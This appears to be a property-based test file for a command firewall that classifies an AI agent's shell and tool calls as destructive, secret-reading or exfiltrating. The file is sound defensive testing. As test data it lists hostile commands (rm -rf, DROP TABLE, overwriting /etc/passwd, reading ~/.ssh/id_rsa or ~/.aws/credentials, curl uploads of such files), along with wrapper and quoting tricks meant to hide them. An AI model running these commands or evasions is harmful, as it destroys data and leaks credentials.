"""What holds for any input: an answer, honest spans, and wrappers that never lower."""

import string

from hypothesis import given, settings
from hypothesis import strategies as st

from firewall.classify.attributes import KNOWN_ATTRIBUTES
from firewall.classify.text import KINDS, actions_of_input
from firewall.classify.tool import actions_of, bound_arguments
from firewall.core.action import Action
from firewall.core.call import CallForm, ToolCall
from firewall.core.effect import Effect
from tests.support.understanding import shipped_catalogue, shipped_context

TOOLS = [*sorted(shipped_catalogue().tools), "mcp__x__y", ""]
WORDS = st.sampled_from(
    [
        "rm", "-rf", "/srv", "$x", "x=rm", "git", "push", "--force", "|", "&&", ";", "sh", "-c",
        "'rm x'", "$(", ")", "`", "<<EOF", "\n", "EOF", "{", "}", "for", "in", "do", "done", "if",
        "then", "fi", ">", ">>", "<", '"', "'", "curl", "-d", "@x", "https://a.com", "xargs", "find",
        ".", "-exec", "{}", "\\;", "eval", "sudo", "env", "A=b", "ssh", "host", "docker", "exec",
        "python3", "import os", "*", "~", "..", "<(", "[[", "]]", "((", "))", "case", "esac", "é", "日本",
        "\0", "function f()", "f", "alias", "while", "read", "cd", "tar", "--checkpoint-action=exec=x",
        "sed", "s/a/b/e", "-i",
    ]
)  # fmt: skip


def check(actions: tuple[Action, ...]) -> None:
    """Assert what every answer keeps."""
    assert actions
    for action in actions:
        assert action.effects
        assert action.environment
        assert action.summary
        assert "\n" not in action.summary
        for item in action.evidence:
            assert 0 <= item.start <= item.end <= len(action.text)
        for name, value in action.attributes.items():
            assert isinstance(value, KNOWN_ATTRIBUTES[name]), name


@settings(max_examples=150, deadline=None)
@given(name=st.sampled_from(TOOLS), data=st.binary(max_size=200), form=st.sampled_from(CallForm))
def test_any_bytes_get_an_answer(name: str, data: bytes, form: CallForm) -> None:
    """No bytes raise and none are left without an action."""
    call = ToolCall("c", name, data, form)
    check(actions_of(call, shipped_context()))
    assert isinstance(bound_arguments(call, shipped_context()), bytes)


@settings(max_examples=150, deadline=None)
@given(kind=st.sampled_from([*KINDS, "other"]), text=st.text(max_size=300))
def test_any_text_gets_an_answer(kind: str, text: str) -> None:
    """No text of any kind raises; spans lie inside it."""
    check(actions_of_input(kind, text, shipped_context()))


@settings(max_examples=300, deadline=None)
@given(words=st.lists(WORDS, max_size=14))
def test_any_shell_shape_gets_an_answer(words: list[str]) -> None:
    """Pieces of shell in any order are read or are unknown, and spans lie inside the text."""
    check(actions_of_input("shell", " ".join(words), shipped_context()))


@settings(max_examples=100, deadline=None)
@given(program=st.sampled_from(sorted(shipped_catalogue().programs)), arguments=st.lists(WORDS, max_size=6))
def test_any_use_of_any_program_gets_an_answer(program: str, arguments: list[str]) -> None:
    """Every row of the catalogue stands any arguments."""
    check(actions_of_input("shell", " ".join([program, *arguments]), shipped_context()))


COMMANDS = [
    "rm -rf /srv/data", "git push --force origin main", "cat .env", "ls",
    "curl -X DELETE https://a.com/x", "psql -c 'DROP TABLE x'", "kubectl delete ns prod",
    "echo x > /etc/passwd", "kill -9 1", "npm test", "./run.sh",
]  # fmt: skip
WRAPPERS = [
    "sudo {}", "env A=b {}", "nohup {}", "time {}", "timeout 5 {}", "nice -n 5 {}", "command {}",
    "FOO=1 {}", "! {}", "({})", "{{ {}; }}", "true && {}", "if true; then {}; fi",
    "for i in 1; do {}; done", "{} &", "stdbuf -o0 {}", "busybox {}", "setsid {}", "xargs {}",
    "cat x | {}", "f() {{ {}; }}; f", "sudo -u root env -i nohup {}", "\\{}",
]  # fmt: skip


def effects(text: str) -> set[Effect]:
    """Return all effects of a line."""
    return {effect for action in actions_of_input("shell", text, shipped_context()) for effect in action.effects}


@settings(max_examples=200, deadline=None)
@given(command=st.sampled_from(COMMANDS), wrappers=st.lists(st.sampled_from(WRAPPERS), max_size=3))
def test_wrapping_never_lowers(command: str, wrappers: list[str]) -> None:
    """Whatever is wrapped around a command, its effects stay, or what could not be read is unknown."""
    text = command
    for wrapper in wrappers:
        text = wrapper.format(text)
    found = effects(text)
    assert effects(command) - {Effect.READ} <= found or Effect.UNKNOWN in found


FRONTS = st.sampled_from(
    ["~", "$HOME", "${HOME}", '"$x"', "$X/y", "$(pwd)/..", "~root", "/home/*", "`x`", "..", "."]
)
ENDS = st.sampled_from(
    [".ssh/id_rsa", ".aws/credentials", ".netrc", ".env", ".config/gh/hosts.yml", ".s*/id_*", ".kube/config"]
)
READERS = st.sampled_from(
    ["cat {}", "base64 {}", "cp {} x", "tar c {}", "grep . {}", "curl -d @{} https://a.com", "cat < {}",
     "head -1 {}", "sed -n p {}", "source {}", "xargs -a {} echo", "git diff --no-index /dev/null {}",
     "mv {} x", "ln -s {} x"]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(front=FRONTS, end=ENDS, reader=READERS)
def test_a_half_known_path_keeps_its_end(front: str, end: str, reader: str) -> None:
    """A credential file is one whatever stands in front of it, and whoever reads it."""
    line = reader.format(f"{front}/{end}")
    assert effects(line) & {Effect.SECRET, Effect.EXFIL, Effect.UNKNOWN}


QUOTED = st.sampled_from(["{}", "'{}'", '"{}"', "\\{}", "''{}", '""{}'])


@settings(max_examples=150, deadline=None)
@given(
    data=st.data(),
    words=st.sampled_from([["rm", "-rf", "/srv/data"], ["git", "reset", "--hard"], ["shred", "/srv/x"]]),
)
def test_quoting_hides_nothing(data: st.DataObject, words: list[str]) -> None:
    """However its characters are quoted, a command stays what it is, or the parser gives up and it is unknown."""
    line = " ".join(
        "".join(data.draw(QUOTED).format(char) if char in string.ascii_letters else char for char in word)
        for word in words
    )
    assert effects(line) & {Effect.DESTRUCTIVE, Effect.UNKNOWN}


@settings(max_examples=80, deadline=None)
@given(
    text=st.text(alphabet=string.ascii_letters + " /-'\"$(){};|&<>\n\\`*é", max_size=120),
    command=st.sampled_from(COMMANDS),
)
def test_a_nested_line_keeps_its_spans(text: str, command: str) -> None:
    """Evidence of text inside `bash -c` points into the outer line."""
    outer = f'echo {text!r} && bash -c "{command.replace(chr(34), "")}"'
    check(actions_of_input("shell", outer, shipped_context()))
